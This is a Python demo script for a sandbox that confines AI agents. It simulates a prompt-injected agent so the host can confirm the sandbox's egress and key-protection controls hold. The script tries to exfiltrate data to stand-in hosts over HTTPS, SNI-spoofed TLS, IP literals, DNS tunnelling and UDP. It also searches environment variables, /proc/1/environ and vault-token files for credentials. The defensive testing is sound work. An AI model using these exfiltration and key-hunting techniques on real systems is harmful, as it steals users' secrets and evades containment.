"""The demo's "agent": runs INSIDE the sandbox with Debian's python3 (stdlib only).

It behaves like a compromised agent would: it does its job (install a package, call an
API through the broker) and tries to exfiltrate data and find the API key. It only
reports what it observed, one JSON object per line; the host decides what was expected.
"""

import json
import os
import random
import socket
import ssl
import struct
import subprocess
import sys
import urllib.error
import urllib.request

CA = os.environ.get("DEMO_CA", "/input/ca.pem")
BROKER = os.environ.get("STOCKADE_BROKER", "")
DENIED_IP = os.environ.get("DEMO_DENIED_IP", "10.250.0.11")
UDP_ECHO = (
    os.environ.get("DEMO_UDP_IP", "10.250.0.20"),
    int(os.environ.get("DEMO_UDP_PORT", "7001")),
)
STOLEN = "customer-list:alice,bob,carol"  # what a prompt-injected agent would try to send out


def report(step, observed, **detail):
    print(json.dumps({"step": step, "observed": observed, **detail}), flush=True)


def blocked_or_reached(fn):
    try:
        return "reached", fn()
    except urllib.error.HTTPError as e:
        deny = e.headers.get("X-Stockade-Deny")
        return ("blocked" if deny else "reached"), f"HTTP {e.code} {deny or ''}".strip()
    except (OSError, ssl.SSLError) as e:
        return "blocked", f"{type(e).__name__}: {e}"[:200]


def https_get(url, timeout=10):
    ctx = ssl.create_default_context(cafile=CA)
    with urllib.request.urlopen(url, timeout=timeout, context=ctx) as r:  # noqa: S310
        return f"HTTP {r.status}"


def http_get(url, timeout=10):
    with urllib.request.urlopen(url, timeout=timeout) as r:  # noqa: S310
        return f"HTTP {r.status}"


def step_pip():
    home = os.environ.get("HOME", "/tmp")  # noqa: S108 - the sandbox's own scratch
    site = os.path.join(home, "site")
    cmd = [
        sys.executable,
        "-m",
        "pip",
        "install",
        "--no-cache-dir",
        "--disable-pip-version-check",
        "--no-input",
        "--index-url",
        "https://pypi.test/simple",
        "--cert",
        CA,
        "--target",
        site,
        "stockade-demo-pkg",
    ]
    p = subprocess.run(cmd, capture_output=True, text=True, timeout=90)
    if p.returncode != 0:
        report("pip_install", "failed", detail=(p.stdout + p.stderr)[-400:])
        return
    sys.path.insert(0, site)
    try:
        import stockade_demo_pkg  # noqa: F401
    except ImportError as e:
        report("pip_install", "failed", detail=f"import: {e}")
        return
    report("pip_install", "installed", detail="stockade-demo-pkg imported")


def dns_query(name, qtype):
    """One UDP DNS query to the sandbox's resolver; returns the rcode name or 'no answer'."""
    server = "127.0.0.53"
    try:
        with open("/etc/resolv.conf") as fh:
            for line in fh:
                if line.startswith("nameserver"):
                    server = line.split()[1]
                    break
    except OSError:
        pass
    qid = random.randint(0, 0xFFFF)  # noqa: S311
    q = struct.pack(">HHHHHH", qid, 0x0100, 1, 0, 0, 0)
    for label in name.rstrip(".").split("."):
        q += bytes([len(label)]) + label.encode()
    q += b"\x00" + struct.pack(">HH", {"A": 1, "TXT": 16}[qtype], 1)
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(3)
    try:
        s.sendto(q, (server, 53))
        data, _ = s.recvfrom(4096)
    except OSError as e:
        return f"no answer ({type(e).__name__})"
    finally:
        s.close()
    rcode = data[3] & 0x0F
    return {0: "NOERROR", 2: "SERVFAIL", 3: "NXDOMAIN", 5: "REFUSED"}.get(rcode, str(rcode))


def tls_to(ip, sni):
    """TLS straight to an address with a chosen SNI (skipping DNS, as malware would)."""
    ctx = ssl.create_default_context(cafile=CA)
    with (
        socket.create_connection((ip, 443), timeout=10) as raw,
        ctx.wrap_socket(raw, server_hostname=sni) as tls,
    ):
        tls.sendall(f"POST /upload HTTP/1.1\r\nHost: {sni}\r\n\r\n{STOLEN}".encode())
        return tls.recv(100).decode(errors="replace")[:40]


def step_exfiltration():
    by_name = blocked_or_reached(lambda: https_get("https://denied.test/upload?d=" + STOLEN))
    by_addr = blocked_or_reached(lambda: tls_to(DENIED_IP, "denied.test"))
    both = "blocked" if by_name[0] == by_addr[0] == "blocked" else "reached"
    report("exfil_https", both, detail=f"by name: {by_name[1]}; by address: {by_addr[1]}")
    obs, detail = blocked_or_reached(lambda: http_get(f"http://{DENIED_IP}/upload?d=" + STOLEN))
    report("exfil_ip_literal", obs, detail=detail)
    label = STOLEN.encode().hex()[:60]
    rcodes = [dns_query(f"{label}.tunnel.test", "A"), dns_query("txt.test", "TXT")]
    answered = any(r in ("NOERROR", "NXDOMAIN") for r in rcodes)
    report("exfil_dns_tunnel", "reached" if answered else "blocked", detail=", ".join(rcodes))
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(2)
    try:
        s.sendto(STOLEN.encode(), UDP_ECHO)
        s.recvfrom(2048)
        report("exfil_udp", "reached", detail="echo received")
    except OSError as e:
        report("exfil_udp", "blocked", detail=type(e).__name__)
    finally:
        s.close()


def step_broker():
    try:
        with urllib.request.urlopen(BROKER + "/demo-api/v1/whoami", timeout=15) as r:  # noqa: S310
            body = json.loads(r.read())
        report("broker_call", "ok" if body.get("user") == "demo" else "failed", detail=body)
    except (OSError, ValueError) as e:
        report("broker_call", "failed", detail=f"{type(e).__name__}: {e}"[:200])


def step_key_hunt():
    # 1. the environment: print it whole, the host checks the key is not in it
    report("key_in_env", "printed", detail=dict(os.environ))
    # 2. files where keys usually sit
    found = []
    for path in (
        "/proc/1/environ",
        "/root/.vault-token",
        "/run/stockade/dev-vault-token",
        os.path.expanduser("~/.vault-token"),
        "/etc/stockade/stockade.yaml",
    ):
        try:
            with open(path, "rb") as fh:
                found.append(f"{path}: {fh.read(200)!r}")
        except OSError:
            pass
    report("key_in_files", "printed", detail=found)
    # 3. an upstream that echoes the request headers back (through the broker)
    try:
        req = urllib.request.Request(  # noqa: S310 - the broker's http URL
            BROKER + "/demo-api/v1/echo", data=b"hello", method="POST"
        )
        with urllib.request.urlopen(req, timeout=15) as r:  # noqa: S310
            echoed = json.loads(r.read())
        report("key_via_echo", "printed", detail=echoed.get("headers", echoed))
    except (OSError, ValueError) as e:
        report("key_via_echo", "printed", detail=f"{type(e).__name__}: {e}"[:200])
    # 4. the API directly, without the broker: the gateway does not allow api.test
    obs, detail = blocked_or_reached(lambda: https_get("https://api.test/v1/whoami"))
    report("api_direct", obs, detail=detail)


if __name__ == "__main__":
    step_pip()
    step_exfiltration()
    step_broker()
    step_key_hunt()
